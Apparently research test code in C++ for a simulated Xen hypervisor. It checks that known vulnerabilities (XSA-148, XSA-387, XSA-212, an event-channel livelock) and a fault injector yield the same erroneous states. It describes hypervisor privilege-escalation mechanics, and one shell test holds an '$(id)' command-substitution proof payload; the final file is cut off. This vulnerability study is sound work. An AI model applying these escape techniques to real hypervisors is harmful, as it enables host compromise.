    if (rng() % 16 == 0) flags = 0;  // clear
    const sim::Pte entry =
        sim::Pte::make(*dom.p2m(sim::Pfn{target_pfn}), flags);
    const MmuUpdate req{
        (sim::mfn_to_paddr(*dom.p2m(sim::Pfn{table_pfn})).raw() + index * 8),
        entry.raw()};
    return hv.hypercall_mmu_update(guest, {&req, 1});
  }

  long random_exchange() {
    MemoryExchange exch{};
    exch.in_extents = {sim::Pfn{rand_pfn()}};
    exch.out_extent_start =
        sim::Vaddr{kGuestKernelBase + (rng() % 100) * sim::kPageSize};
    return hv.hypercall_memory_exchange(guest, exch);
  }

  sim::PhysicalMemory mem;
  Hypervisor hv;
  std::mt19937 rng;
  DomainId dom0{}, guest{};
};

class RandomOpsInvariant
    : public ::testing::TestWithParam<std::tuple<int, unsigned>> {};

TEST_P(RandomOpsInvariant, FixedVersionsNeverYieldWritablePageTables) {
  const auto [minor, seed] = GetParam();
  Harness h{XenVersion{4, minor}, seed};
  for (int step = 0; step < 400; ++step) {
    if (h.rng() % 4 == 0) {
      (void)h.random_exchange();
    } else {
      (void)h.random_mmu_update();
    }
  }
  const AuditReport report = audit_system(h.hv);
  for (const auto& finding : report.findings) {
    EXPECT_NE(finding.kind, FindingKind::GuestWritablePageTable)
        << finding.detail;
    EXPECT_NE(finding.kind, FindingKind::GuestWritableXenFrame)
        << finding.detail;
    EXPECT_NE(finding.kind, FindingKind::GuestMapsForeignFrame)
        << finding.detail;
    EXPECT_NE(finding.kind, FindingKind::CorruptIdtGate) << finding.detail;
    EXPECT_NE(finding.kind, FindingKind::ForeignXenL3Entry) << finding.detail;
  }
  EXPECT_FALSE(h.hv.crashed());
}

INSTANTIATE_TEST_SUITE_P(
    VersionsAndSeeds, RandomOpsInvariant,
    ::testing::Combine(::testing::Values(8, 13),
                       ::testing::Values(1u, 2u, 3u, 42u, 1337u)));

/// On the vulnerable version the same streams must ALSO keep the invariant
/// for every *accepted* request unless the request used the PSE hole —
/// i.e. the only way the audit can dirty up is through the known bug.
class VulnerableVersionProperty : public ::testing::TestWithParam<unsigned> {};

TEST_P(VulnerableVersionProperty, OnlyPseHoleBreaksInvariant) {
  Harness h{kXen46, GetParam()};
  bool used_pse_hole = false;
  for (int step = 0; step < 400; ++step) {
    const Domain& dom = h.hv.domain(h.guest);
    const std::uint64_t table_pfn = 124 + h.rng() % 4;
    const unsigned index = static_cast<unsigned>(h.rng() % sim::kPtEntries);
    std::uint64_t flags = sim::Pte::kPresent |
                          (h.rng() % 2 ? sim::Pte::kWritable : 0) |
                          sim::Pte::kUser;
    const bool pse = h.rng() % 8 == 0;
    if (pse) flags |= sim::Pte::kPageSize;
    const MmuUpdate req{
        (sim::mfn_to_paddr(*dom.p2m(sim::Pfn{table_pfn})).raw() + index * 8),
        sim::Pte::make(*dom.p2m(sim::Pfn{h.rand_pfn()}), flags).raw()};
    const long rc = h.hv.hypercall_mmu_update(h.guest, {&req, 1});
    // Only L2+PSE entries can be accepted without full validation.
    if (rc == kOk && pse && table_pfn == 125) used_pse_hole = true;
  }
  const AuditReport report = audit_system(h.hv);
  const bool dirty = report.has(FindingKind::GuestWritablePageTable) ||
                     report.has(FindingKind::GuestMapsForeignFrame) ||
                     report.has(FindingKind::GuestWritableXenFrame);
  if (!used_pse_hole) {
    EXPECT_FALSE(dirty);
  }
  // (When the hole was used, findings are expected — that IS XSA-148.)
}

INSTANTIATE_TEST_SUITE_P(Seeds, VulnerableVersionProperty,
                         ::testing::Values(7u, 11u, 23u, 99u));

/// Injector round-trip property across both addressing modes and a sweep of
/// sizes/offsets, including page-straddling ones.
class InjectorRoundTrip
    : public ::testing::TestWithParam<std::tuple<int, int>> {};

TEST_P(InjectorRoundTrip, WriteThenReadMatches) {
  const auto [size, offset] = GetParam();
  sim::PhysicalMemory mem{8192};
  Hypervisor hv{mem, VersionPolicy::for_version(kXen413),
                HvConfig{.xen_frames = 16, .injector_enabled = true}};
  const DomainId dom0 = hv.create_domain("dom0", true, 64);
  const DomainId guest = hv.create_domain("guest01", false, 64);

  const sim::Paddr base =
      sim::mfn_to_paddr(hv.domain(dom0).start_info_mfn()) +
      static_cast<std::uint64_t>(offset);
  std::vector<std::uint8_t> in(static_cast<std::size_t>(size));
  for (std::size_t i = 0; i < in.size(); ++i) {
    in[i] = static_cast<std::uint8_t>(i * 13 + 7);
  }

  ArbitraryAccess wr{base.raw(), in, AccessAction::WritePhysical};
  ASSERT_EQ(hv.hypercall_arbitrary_access(guest, wr), kOk);
  std::vector<std::uint8_t> out(in.size());
  ArbitraryAccess rd{base.raw(), out, AccessAction::ReadPhysical};
  ASSERT_EQ(hv.hypercall_arbitrary_access(guest, rd), kOk);
  EXPECT_EQ(in, out);

  // The same bytes are visible through the linear (directmap) mode.
  std::vector<std::uint8_t> lin(in.size());
  ArbitraryAccess rl{directmap_vaddr(base).raw(), lin,
                     AccessAction::ReadLinear};
  ASSERT_EQ(hv.hypercall_arbitrary_access(guest, rl), kOk);
  EXPECT_EQ(in, lin);
}

INSTANTIATE_TEST_SUITE_P(
    SizesAndOffsets, InjectorRoundTrip,
    ::testing::Combine(::testing::Values(1, 8, 64, 4096, 5000),
                       ::testing::Values(0, 1, 4000)));

/// Exchange conservation: however the exchange stream goes, the number of
/// frames owned by the guest stays constant and the frame table stays
/// consistent.
class ExchangeConservation : public ::testing::TestWithParam<unsigned> {};

TEST_P(ExchangeConservation, OwnedFrameCountInvariant) {
  Harness h{kXen48, GetParam()};
  const std::size_t before = h.hv.frames().frames_of(h.guest).size();
  for (int i = 0; i < 200; ++i) {
    // Unmap a random pfn (maybe already unmapped) and try to exchange it.
    const std::uint64_t pfn = h.rand_pfn();
    const sim::Mfn l1 = h.guest_mfn(124 + pfn / sim::kPtEntries / 512);
    (void)l1;
    const Domain& dom = h.hv.domain(h.guest);
    const sim::Mfn l1t = *dom.p2m(sim::Pfn{124});
    const MmuUpdate unmap{
        (sim::mfn_to_paddr(l1t).raw() + (pfn % sim::kPtEntries) * 8), 0};
    (void)h.hv.hypercall_mmu_update(h.guest, {&unmap, 1});
    (void)h.random_exchange();
  }
  EXPECT_EQ(h.hv.frames().frames_of(h.guest).size(), before);
  EXPECT_FALSE(h.hv.crashed());
}

INSTANTIATE_TEST_SUITE_P(Seeds, ExchangeConservation,
                         ::testing::Values(3u, 17u, 31u));

}  // namespace
}  // namespace ii::hv
