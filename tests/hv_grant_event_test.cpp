// Grant tables (incl. the XSA-387 downgrade leak) and event channels
// (incl. the pre-hardening delivery-loop livelock).
#include <gtest/gtest.h>

#include <cstring>

#include "guest/platform.hpp"
#include "hv/audit.hpp"

namespace ii::hv {
namespace {

guest::PlatformConfig small_config(XenVersion version) {
  guest::PlatformConfig pc{};
  pc.version = version;
  pc.machine_frames = 8192;
  pc.dom0_pages = 128;
  pc.guest_pages = 64;
  return pc;
}

// ------------------------------------------------------------- grant basics

TEST(GrantTables, GrantMapUnmapLifecycle) {
  guest::VirtualPlatform p{small_config(kXen48)};
  guest::GuestKernel& granter = p.guest(0);
  guest::GuestKernel& mapper = p.guest(1);
  const auto pfn = granter.alloc_pfn();
  ASSERT_TRUE(granter.write_u64(granter.pfn_va(*pfn), 0x5EC2E7));

  ASSERT_EQ(granter.grant_access(3, mapper.id(), *pfn, /*readonly=*/true),
            kOk);
  GrantHandle handle = 0;
  sim::Mfn frame{};
  ASSERT_EQ(mapper.grant_map(granter.id(), 3, &handle, &frame), kOk);
  EXPECT_EQ(frame, *granter.pfn_to_mfn(*pfn));
  // Shared content visible through machine memory.
  EXPECT_EQ(p.memory().read_u64(sim::mfn_to_paddr(frame)), 0x5EC2E7u);

  // Revoking while mapped is refused; after unmap it succeeds.
  EXPECT_EQ(granter.grant_end_access(3), kEBUSY);
  ASSERT_EQ(mapper.grant_unmap(handle), kOk);
  EXPECT_EQ(granter.grant_end_access(3), kOk);
}

TEST(GrantTables, OnlyTheNamedPeerMayMap) {
  guest::VirtualPlatform p{small_config(kXen48)};
  guest::GuestKernel& granter = p.guest(0);
  const auto pfn = granter.alloc_pfn();
  ASSERT_EQ(granter.grant_access(0, p.guest(1).id(), *pfn, false), kOk);
  GrantHandle handle = 0;
  // dom0 is not the named peer.
  EXPECT_EQ(p.dom0().grant_map(granter.id(), 0, &handle, nullptr), kEPERM);
}

TEST(GrantTables, ErrorPaths) {
  guest::VirtualPlatform p{small_config(kXen48)};
  guest::GuestKernel& g = p.guest(0);
  EXPECT_EQ(g.grant_access(GrantTable::kMaxEntries, 0, sim::Pfn{5}, false),
            kEINVAL);
  EXPECT_EQ(g.grant_access(0, 0, sim::Pfn{9999}, false), kEINVAL);
  ASSERT_EQ(g.grant_access(0, p.dom0().id(), sim::Pfn{5}, false), kOk);
  EXPECT_EQ(g.grant_access(0, p.dom0().id(), sim::Pfn{6}, false), kEBUSY);
  EXPECT_EQ(g.grant_end_access(1), kENOENT);
  EXPECT_EQ(g.grant_unmap(GrantHandle{777}), kENOENT);
  EXPECT_EQ(g.grant_map(p.dom0().id(), 50, nullptr, nullptr), kENOENT);
  EXPECT_EQ(g.grant_set_version(3), kEINVAL);
}

// -------------------------------------------------- XSA-387 downgrade leak

TEST(GrantV2Downgrade, StatusPageMappedOnUpgrade) {
  guest::VirtualPlatform p{small_config(kXen48)};
  guest::GuestKernel& g = p.guest(0);
  ASSERT_EQ(g.grant_set_version(2), kOk);
  std::array<std::uint8_t, 16> buf{};
  ASSERT_TRUE(g.read_virt(g.grant_status_va(), buf));
  EXPECT_EQ(std::memcmp(buf.data(), "XEN-INTERNAL", 12), 0);
  // While v2 is active the mapping is legitimate: audit stays clean.
  EXPECT_FALSE(audit_system(p.hv()).has(FindingKind::StaleGrantMapping));
}

TEST(GrantV2Downgrade, LeakyVersionsKeepAccess) {
  for (const auto version : {kXen46, kXen48}) {
    guest::VirtualPlatform p{small_config(version)};
    guest::GuestKernel& g = p.guest(0);
    ASSERT_EQ(g.grant_set_version(2), kOk);
    ASSERT_EQ(g.grant_set_version(1), kOk);
    std::array<std::uint8_t, 16> buf{};
    EXPECT_TRUE(g.read_virt(g.grant_status_va(), buf))
        << version.to_string();
    EXPECT_TRUE(audit_system(p.hv()).has(FindingKind::StaleGrantMapping))
        << version.to_string();
  }
}

TEST(GrantV2Downgrade, FixedVersionReleases) {
  guest::VirtualPlatform p{small_config(kXen413)};
  guest::GuestKernel& g = p.guest(0);
  ASSERT_EQ(g.grant_set_version(2), kOk);
  ASSERT_EQ(g.grant_set_version(1), kOk);
  std::array<std::uint8_t, 16> buf{};
  EXPECT_FALSE(g.read_virt(g.grant_status_va(), buf));
  EXPECT_FALSE(audit_system(p.hv()).has(FindingKind::StaleGrantMapping));
}

TEST(GrantV2Downgrade, RepeatedCyclesAreStable) {
  guest::VirtualPlatform p{small_config(kXen413)};
  guest::GuestKernel& g = p.guest(0);
  for (int i = 0; i < 5; ++i) {
    ASSERT_EQ(g.grant_set_version(2), kOk) << i;
    ASSERT_EQ(g.grant_set_version(1), kOk) << i;
  }
  EXPECT_EQ(g.grant_set_version(1), kOk);  // idempotent
}

// ------------------------------------------------------------ event channels

TEST(EventChannels, BindSendDeliver) {
  guest::VirtualPlatform p{small_config(kXen48)};
  guest::GuestKernel& a = p.guest(0);
  guest::GuestKernel& b = p.guest(1);
  unsigned b_port = 0, a_port = 0;
  ASSERT_EQ(b.evtchn_alloc_unbound(a.id(), &b_port), kOk);
  ASSERT_EQ(a.evtchn_bind(b.id(), b_port, &a_port), kOk);
  ASSERT_EQ(b.evtchn_register_handler(b_port), kOk);

  ASSERT_EQ(a.evtchn_send(a_port), kOk);
  EXPECT_TRUE(p.hv().events().pending(b.id(), b_port));
  const auto result = b.handle_events();
  EXPECT_EQ(result.delivered, 1u);
  EXPECT_FALSE(result.livelocked);
  EXPECT_FALSE(p.hv().events().pending(b.id(), b_port));
}

TEST(EventChannels, SendRequiresBoundPort) {
  guest::VirtualPlatform p{small_config(kXen48)};
  guest::GuestKernel& a = p.guest(0);
  EXPECT_EQ(a.evtchn_send(0), kENOENT);
  unsigned port = 0;
  ASSERT_EQ(a.evtchn_alloc_unbound(p.guest(1).id(), &port), kOk);
  EXPECT_EQ(a.evtchn_send(port), kENOENT);  // allocated but unbound
}

TEST(EventChannels, BindChecksRemoteGrant) {
  guest::VirtualPlatform p{small_config(kXen48)};
  guest::GuestKernel& a = p.guest(0);
  guest::GuestKernel& b = p.guest(1);
  unsigned b_port = 0;
  ASSERT_EQ(b.evtchn_alloc_unbound(a.id(), &b_port), kOk);
  unsigned dummy = 0;
  // dom0 was not named as the remote.
  EXPECT_EQ(p.dom0().evtchn_bind(b.id(), b_port, &dummy), kEPERM);
  // Nonexistent remote port.
  EXPECT_EQ(a.evtchn_bind(b.id(), 77, &dummy), kENOENT);
}

TEST(EventChannels, MaskedPortsAreSkippedNotLivelocked) {
  guest::VirtualPlatform p{small_config(kXen46)};
  guest::GuestKernel& victim = p.guest(0);
  // Raise pending bits directly (as the injector would) but masked.
  const auto mfn = victim.pfn_to_mfn(guest::kSharedInfoPfn);
  p.memory().write_u64(
      sim::mfn_to_paddr(*mfn) + SharedInfoLayout::kPendingOffset + 16, ~0ULL);
  p.memory().write_u64(
      sim::mfn_to_paddr(*mfn) + SharedInfoLayout::kMaskOffset + 16, ~0ULL);
  const auto result = victim.handle_events();
  EXPECT_FALSE(result.livelocked);
  EXPECT_FALSE(p.hv().cpu_hung());
}

TEST(EventChannels, UnboundStormLivelocksPre413) {
  guest::VirtualPlatform p{small_config(kXen46)};
  guest::GuestKernel& victim = p.guest(0);
  const auto mfn = victim.pfn_to_mfn(guest::kSharedInfoPfn);
  p.memory().write_u64(
      sim::mfn_to_paddr(*mfn) + SharedInfoLayout::kPendingOffset + 24, ~0ULL);
  const auto result = victim.handle_events();
  EXPECT_TRUE(result.livelocked);
  EXPECT_TRUE(p.hv().cpu_hung());
  EXPECT_FALSE(p.hv().crashed());  // hang, not panic
}

TEST(EventChannels, UnboundStormDroppedOn413) {
  guest::VirtualPlatform p{small_config(kXen413)};
  guest::GuestKernel& victim = p.guest(0);
  const auto mfn = victim.pfn_to_mfn(guest::kSharedInfoPfn);
  p.memory().write_u64(
      sim::mfn_to_paddr(*mfn) + SharedInfoLayout::kPendingOffset + 24, ~0ULL);
  const auto result = victim.handle_events();
  EXPECT_FALSE(result.livelocked);
  EXPECT_EQ(result.dropped, 64u);
  EXPECT_FALSE(p.hv().cpu_hung());
}

TEST(EventChannels, DeliveredEventsDoNotWedgeAnyVersion) {
  for (const auto version : {kXen46, kXen48, kXen413}) {
    guest::VirtualPlatform p{small_config(version)};
    guest::GuestKernel& a = p.guest(0);
    guest::GuestKernel& b = p.guest(1);
    unsigned b_port = 0, a_port = 0;
    ASSERT_EQ(b.evtchn_alloc_unbound(a.id(), &b_port), kOk);
    ASSERT_EQ(a.evtchn_bind(b.id(), b_port, &a_port), kOk);
    ASSERT_EQ(b.evtchn_register_handler(b_port), kOk);
    for (int i = 0; i < 100; ++i) ASSERT_EQ(a.evtchn_send(a_port), kOk);
    const auto result = b.handle_events();
    EXPECT_GE(result.delivered, 1u) << version.to_string();
    EXPECT_FALSE(p.hv().cpu_hung()) << version.to_string();
  }
}

}  // namespace
}  // namespace ii::hv
