// Unit tests for the physical-memory substrate.
#include <gtest/gtest.h>

#include <stdexcept>

#include "sim/phys_mem.hpp"

namespace ii::sim {
namespace {

TEST(PhysicalMemory, SizesAndZeroInit) {
  PhysicalMemory mem{4};
  EXPECT_EQ(mem.frame_count(), 4u);
  EXPECT_EQ(mem.byte_size(), 4 * kPageSize);
  EXPECT_EQ(mem.read_u64(Paddr{0}), 0u);
  EXPECT_EQ(mem.read_u64(Paddr{4 * kPageSize - 8}), 0u);
}

TEST(PhysicalMemory, ZeroFramesRejected) {
  EXPECT_THROW(PhysicalMemory{0}, std::invalid_argument);
}

TEST(PhysicalMemory, U64RoundTrip) {
  PhysicalMemory mem{2};
  mem.write_u64(Paddr{16}, 0xDEADBEEFCAFEBABEULL);
  EXPECT_EQ(mem.read_u64(Paddr{16}), 0xDEADBEEFCAFEBABEULL);
}

TEST(PhysicalMemory, ByteSpansRoundTripAcrossFrameBoundary) {
  PhysicalMemory mem{2};
  std::array<std::uint8_t, 16> in{};
  for (std::size_t i = 0; i < in.size(); ++i) in[i] = std::uint8_t(i + 1);
  mem.write(Paddr{kPageSize - 8}, in);
  std::array<std::uint8_t, 16> out{};
  mem.read(Paddr{kPageSize - 8}, out);
  EXPECT_EQ(in, out);
}

TEST(PhysicalMemory, ContainsSemantics) {
  PhysicalMemory mem{1};
  EXPECT_TRUE(mem.contains(Paddr{0}));
  EXPECT_TRUE(mem.contains(Paddr{kPageSize - 1}));
  EXPECT_FALSE(mem.contains(Paddr{kPageSize}));
  EXPECT_TRUE(mem.contains(Paddr{0}, kPageSize));
  EXPECT_FALSE(mem.contains(Paddr{1}, kPageSize));
  EXPECT_FALSE(mem.contains(Paddr{0}, 0));  // empty ranges are invalid
  EXPECT_TRUE(mem.contains(Mfn{0}));
  EXPECT_FALSE(mem.contains(Mfn{1}));
}

TEST(PhysicalMemory, OutOfRangeThrows) {
  PhysicalMemory mem{1};
  std::array<std::uint8_t, 8> buf{};
  EXPECT_THROW(mem.read(Paddr{kPageSize}, buf), std::out_of_range);
  EXPECT_THROW(mem.write(Paddr{kPageSize - 4}, buf), std::out_of_range);
  EXPECT_THROW((void)mem.read_u64(Paddr{kPageSize - 7}), std::out_of_range);
}

TEST(PhysicalMemory, OverflowingRangeRejected) {
  PhysicalMemory mem{1};
  // len so large that pa + len wraps; contains() must not overflow.
  EXPECT_FALSE(mem.contains(Paddr{8}, ~0ULL));
}

TEST(PhysicalMemory, SlotAccess) {
  PhysicalMemory mem{2};
  mem.write_slot(Mfn{1}, 511, 0x77);
  EXPECT_EQ(mem.read_slot(Mfn{1}, 511), 0x77u);
  EXPECT_EQ(mem.read_u64(Paddr{kPageSize + 511 * 8}), 0x77u);
  EXPECT_THROW((void)mem.read_slot(Mfn{1}, 512), std::out_of_range);
  EXPECT_THROW(mem.write_slot(Mfn{1}, 512, 0), std::out_of_range);
}

TEST(PhysicalMemory, ZeroFrameClearsOnlyThatFrame) {
  PhysicalMemory mem{2};
  mem.write_u64(Paddr{0}, 1);
  mem.write_u64(Paddr{kPageSize}, 2);
  mem.zero_frame(Mfn{0});
  EXPECT_EQ(mem.read_u64(Paddr{0}), 0u);
  EXPECT_EQ(mem.read_u64(Paddr{kPageSize}), 2u);
}

TEST(PhysicalMemory, FrameBytesView) {
  PhysicalMemory mem{2};
  {
    auto view = mem.writable_frame(Mfn{1});
    ASSERT_EQ(view.bytes().size(), kPageSize);
    view[0] = 0xAB;
  }
  EXPECT_EQ(mem.read_slot(Mfn{1}, 0) & 0xFF, 0xABu);
  const auto& cmem = mem;
  EXPECT_EQ(cmem.frame_bytes(Mfn{1})[0], 0xAB);
}

TEST(PhysicalMemory, EveryMutationPathBumpsFrameGeneration) {
  PhysicalMemory mem{3};
  const auto gen_of = [&](std::uint64_t m) {
    return mem.frame_generation(Mfn{m});
  };

  std::uint64_t before = gen_of(0);
  mem.write_u64(Paddr{8}, 1);
  EXPECT_GT(gen_of(0), before);

  before = gen_of(1);
  mem.write_slot(Mfn{1}, 0, 0x77);
  EXPECT_GT(gen_of(1), before);

  before = gen_of(1);
  mem.zero_frame(Mfn{1});
  EXPECT_GT(gen_of(1), before);

  before = gen_of(2);
  mem.mark_dirty(Mfn{2});
  EXPECT_GT(gen_of(2), before);

  before = gen_of(2);
  { auto guard = mem.writable_frame(Mfn{2}); guard[7] = 1; }
  EXPECT_GT(gen_of(2), before);

  // A straddling write stamps every covered frame with the same generation.
  std::array<std::uint8_t, 16> buf{};
  mem.write(Paddr{kPageSize - 8}, buf);
  EXPECT_EQ(gen_of(0), gen_of(1));
  EXPECT_GT(gen_of(0), before);

  // Reads leave generations alone.
  before = mem.generation();
  (void)mem.read_u64(Paddr{0});
  (void)mem.frame_bytes(Mfn{0});
  std::array<std::uint8_t, 8> out{};
  mem.read(Paddr{0}, out);
  EXPECT_EQ(mem.generation(), before);
}

TEST(PhysicalMemory, DirtyBitmapAndRestoreFrameRollGenerationsBack) {
  PhysicalMemory mem{130};  // >2 bitmap words
  const std::vector<std::uint64_t> base{mem.frame_generations().begin(),
                                        mem.frame_generations().end()};
  std::vector<std::uint8_t> frame0{mem.frame_bytes(Mfn{0}).begin(),
                                   mem.frame_bytes(Mfn{0}).end()};

  mem.write_u64(Paddr{0}, 0xAA);            // frame 0
  mem.write_u64(Paddr{129 * kPageSize}, 1); // frame 129

  const auto bits = mem.dirty_bitmap(base);
  ASSERT_EQ(bits.size(), 3u);
  EXPECT_EQ(bits[0], 1u);                   // only frame 0 in word 0
  EXPECT_EQ(bits[1], 0u);
  EXPECT_EQ(bits[2], 1ULL << (129 - 128));  // only frame 129 in word 2

  // Restoring captured bytes at the captured generation cleans the frame.
  mem.restore_frame(Mfn{0}, frame0, base[0]);
  const auto bits2 = mem.dirty_bitmap(base);
  EXPECT_EQ(bits2[0], 0u);
  EXPECT_EQ(mem.read_u64(Paddr{0}), 0u);
  // The global counter never rolls back.
  EXPECT_GE(mem.generation(), base[129]);

  std::vector<std::uint64_t> wrong(4, 0);
  EXPECT_THROW((void)mem.dirty_bitmap(wrong), std::logic_error);
}

}  // namespace
}  // namespace ii::sim
