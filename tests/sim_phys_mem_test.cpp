// Unit tests for the physical-memory substrate.
#include <gtest/gtest.h>

#include <stdexcept>

#include "sim/phys_mem.hpp"

namespace ii::sim {
namespace {

TEST(PhysicalMemory, SizesAndZeroInit) {
  PhysicalMemory mem{4};
  EXPECT_EQ(mem.frame_count(), 4u);
  EXPECT_EQ(mem.byte_size(), 4 * kPageSize);
  EXPECT_EQ(mem.read_u64(Paddr{0}), 0u);
  EXPECT_EQ(mem.read_u64(Paddr{4 * kPageSize - 8}), 0u);
}

TEST(PhysicalMemory, ZeroFramesRejected) {
  EXPECT_THROW(PhysicalMemory{0}, std::invalid_argument);
}

TEST(PhysicalMemory, U64RoundTrip) {
  PhysicalMemory mem{2};
  mem.write_u64(Paddr{16}, 0xDEADBEEFCAFEBABEULL);
  EXPECT_EQ(mem.read_u64(Paddr{16}), 0xDEADBEEFCAFEBABEULL);
}

TEST(PhysicalMemory, ByteSpansRoundTripAcrossFrameBoundary) {
  PhysicalMemory mem{2};
  std::array<std::uint8_t, 16> in{};
  for (std::size_t i = 0; i < in.size(); ++i) in[i] = std::uint8_t(i + 1);
  mem.write(Paddr{kPageSize - 8}, in);
  std::array<std::uint8_t, 16> out{};
  mem.read(Paddr{kPageSize - 8}, out);
  EXPECT_EQ(in, out);
}

TEST(PhysicalMemory, ContainsSemantics) {
  PhysicalMemory mem{1};
  EXPECT_TRUE(mem.contains(Paddr{0}));
  EXPECT_TRUE(mem.contains(Paddr{kPageSize - 1}));
  EXPECT_FALSE(mem.contains(Paddr{kPageSize}));
  EXPECT_TRUE(mem.contains(Paddr{0}, kPageSize));
  EXPECT_FALSE(mem.contains(Paddr{1}, kPageSize));
  EXPECT_FALSE(mem.contains(Paddr{0}, 0));  // empty ranges are invalid
  EXPECT_TRUE(mem.contains(Mfn{0}));
  EXPECT_FALSE(mem.contains(Mfn{1}));
}

TEST(PhysicalMemory, OutOfRangeThrows) {
  PhysicalMemory mem{1};
  std::array<std::uint8_t, 8> buf{};
  EXPECT_THROW(mem.read(Paddr{kPageSize}, buf), std::out_of_range);
  EXPECT_THROW(mem.write(Paddr{kPageSize - 4}, buf), std::out_of_range);
  EXPECT_THROW((void)mem.read_u64(Paddr{kPageSize - 7}), std::out_of_range);
}

TEST(PhysicalMemory, OverflowingRangeRejected) {
  PhysicalMemory mem{1};
  // len so large that pa + len wraps; contains() must not overflow.
  EXPECT_FALSE(mem.contains(Paddr{8}, ~0ULL));
}

TEST(PhysicalMemory, SlotAccess) {
  PhysicalMemory mem{2};
  mem.write_slot(Mfn{1}, 511, 0x77);
  EXPECT_EQ(mem.read_slot(Mfn{1}, 511), 0x77u);
  EXPECT_EQ(mem.read_u64(Paddr{kPageSize + 511 * 8}), 0x77u);
  EXPECT_THROW((void)mem.read_slot(Mfn{1}, 512), std::out_of_range);
  EXPECT_THROW(mem.write_slot(Mfn{1}, 512, 0), std::out_of_range);
}

TEST(PhysicalMemory, ZeroFrameClearsOnlyThatFrame) {
  PhysicalMemory mem{2};
  mem.write_u64(Paddr{0}, 1);
  mem.write_u64(Paddr{kPageSize}, 2);
  mem.zero_frame(Mfn{0});
  EXPECT_EQ(mem.read_u64(Paddr{0}), 0u);
  EXPECT_EQ(mem.read_u64(Paddr{kPageSize}), 2u);
}

TEST(PhysicalMemory, FrameBytesView) {
  PhysicalMemory mem{2};
  auto view = mem.frame_bytes(Mfn{1});
  ASSERT_EQ(view.size(), kPageSize);
  view[0] = 0xAB;
  EXPECT_EQ(mem.read_slot(Mfn{1}, 0) & 0xFF, 0xABu);
  const auto& cmem = mem;
  EXPECT_EQ(cmem.frame_bytes(Mfn{1})[0], 0xAB);
}

}  // namespace
}  // namespace ii::sim
