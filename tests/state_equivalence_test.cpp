// RQ1's strongest claim, executable: "the erroneous states injected are the
// same" as the ones the exploits induce (§VI-C). Each use case renders a
// canonical, allocation-independent description of its erroneous state; the
// exploit run and the injection run on Xen 4.6 must produce identical
// descriptions.
#include <gtest/gtest.h>

#include "xsa/usecases.hpp"

namespace ii::xsa {
namespace {

guest::VirtualPlatform make_platform(bool injector) {
  guest::PlatformConfig pc{};
  pc.version = hv::kXen46;
  pc.injector_enabled = injector;
  return guest::VirtualPlatform{pc};
}

class StateEquivalence : public ::testing::TestWithParam<int> {};

TEST_P(StateEquivalence, ExploitAndInjectionProduceTheSameState) {
  const auto cases = make_paper_use_cases();
  core::UseCase& use_case = *cases[static_cast<std::size_t>(GetParam())];

  auto exploit_platform = make_platform(false);
  ASSERT_TRUE(use_case.run_exploit(exploit_platform).completed)
      << use_case.name();
  const std::string from_exploit =
      use_case.erroneous_state_description(exploit_platform);

  auto injection_platform = make_platform(true);
  ASSERT_TRUE(use_case.run_injection(injection_platform).completed)
      << use_case.name();
  const std::string from_injection =
      use_case.erroneous_state_description(injection_platform);

  EXPECT_FALSE(from_exploit.empty()) << use_case.name();
  EXPECT_EQ(from_exploit, from_injection) << use_case.name();
}

INSTANTIATE_TEST_SUITE_P(PaperUseCases, StateEquivalence,
                         ::testing::Range(0, 4));

TEST(StateDescriptions, EmptyOnFreshPlatform) {
  auto platform = make_platform(true);
  for (const auto& use_case : make_paper_use_cases()) {
    EXPECT_TRUE(use_case->erroneous_state_description(platform).empty())
        << use_case->name();
  }
}

TEST(StateDescriptions, MentionTheCorruptedStructure) {
  auto platform = make_platform(true);
  const auto cases = make_paper_use_cases();
  (void)cases[1]->run_injection(platform);  // XSA-212-priv
  const std::string desc = cases[1]->erroneous_state_description(platform);
  EXPECT_NE(desc.find("xen_l3[300]"), std::string::npos) << desc;
  EXPECT_NE(desc.find("P|RW|US"), std::string::npos) << desc;
  EXPECT_NE(desc.find("injector_log"), std::string::npos) << desc;
}

TEST(StateDescriptions, On413ThePudLinkShowsButThePayloadIsAbsent) {
  guest::PlatformConfig pc{};
  pc.version = hv::kXen413;
  guest::VirtualPlatform platform{pc};
  const auto cases = make_paper_use_cases();
  (void)cases[1]->run_injection(platform);
  const std::string desc = cases[1]->erroneous_state_description(platform);
  EXPECT_NE(desc.find("xen_l3[300]"), std::string::npos) << desc;
  EXPECT_NE(desc.find("payload: absent"), std::string::npos) << desc;
}

}  // namespace
}  // namespace ii::xsa
