// The in-guest filesystem and shell evaluator.
#include <gtest/gtest.h>

#include "guest/shell.hpp"

namespace ii::guest {
namespace {

TEST(FileSystem, WriteReadRoundTrip) {
  FileSystem fs;
  EXPECT_TRUE(fs.write("/tmp/x", 1000, "hello"));
  EXPECT_EQ(fs.read("/tmp/x", 1000), "hello");
  EXPECT_TRUE(fs.exists("/tmp/x"));
  EXPECT_FALSE(fs.exists("/tmp/y"));
  EXPECT_FALSE(fs.read("/tmp/y", 0).has_value());
}

TEST(FileSystem, RootOnlyPathsEnforced) {
  FileSystem fs;
  EXPECT_FALSE(fs.write("/root/secret", 1000, "nope"));
  EXPECT_TRUE(fs.write("/root/secret", 0, "top"));
  EXPECT_FALSE(fs.read("/root/secret", 1000).has_value());
  EXPECT_EQ(fs.read("/root/secret", 0), "top");
}

TEST(FileSystem, OverwriteReplacesContent) {
  FileSystem fs;
  ASSERT_TRUE(fs.write("/tmp/x", 0, "a"));
  ASSERT_TRUE(fs.write("/tmp/x", 0, "b"));
  EXPECT_EQ(fs.read("/tmp/x", 0), "b");
}

class ShellFixture : public ::testing::Test {
 protected:
  std::string run(int uid, const std::string& line) {
    return run_shell(fs, "xen3", uid, line);
  }
  FileSystem fs;
};

TEST_F(ShellFixture, IdentityCommands) {
  EXPECT_EQ(run(0, "whoami"), "root");
  EXPECT_EQ(run(1000, "whoami"), "xen");
  EXPECT_EQ(run(0, "hostname"), "xen3");
  EXPECT_EQ(run(0, "id"), "uid=0(root) gid=0(root) groups=0(root)");
  EXPECT_EQ(run(1000, "id"), "uid=1000(xen) gid=1000(xen) groups=1000(xen)");
}

TEST_F(ShellFixture, EchoWithSubstitution) {
  // The exact payload from the XSA-212-priv experiment.
  EXPECT_EQ(run(0, "echo \"|$(id)|@$(hostname)\""),
            "|uid=0(root) gid=0(root) groups=0(root)|@xen3");
}

TEST_F(ShellFixture, EchoPlain) {
  EXPECT_EQ(run(0, "echo hello world"), "hello world");
  EXPECT_EQ(run(0, "echo"), "");
}

TEST_F(ShellFixture, RedirectionWritesFile) {
  EXPECT_EQ(run(0, "echo \"|$(id)|@$(hostname)\" > /tmp/injector_log"), "");
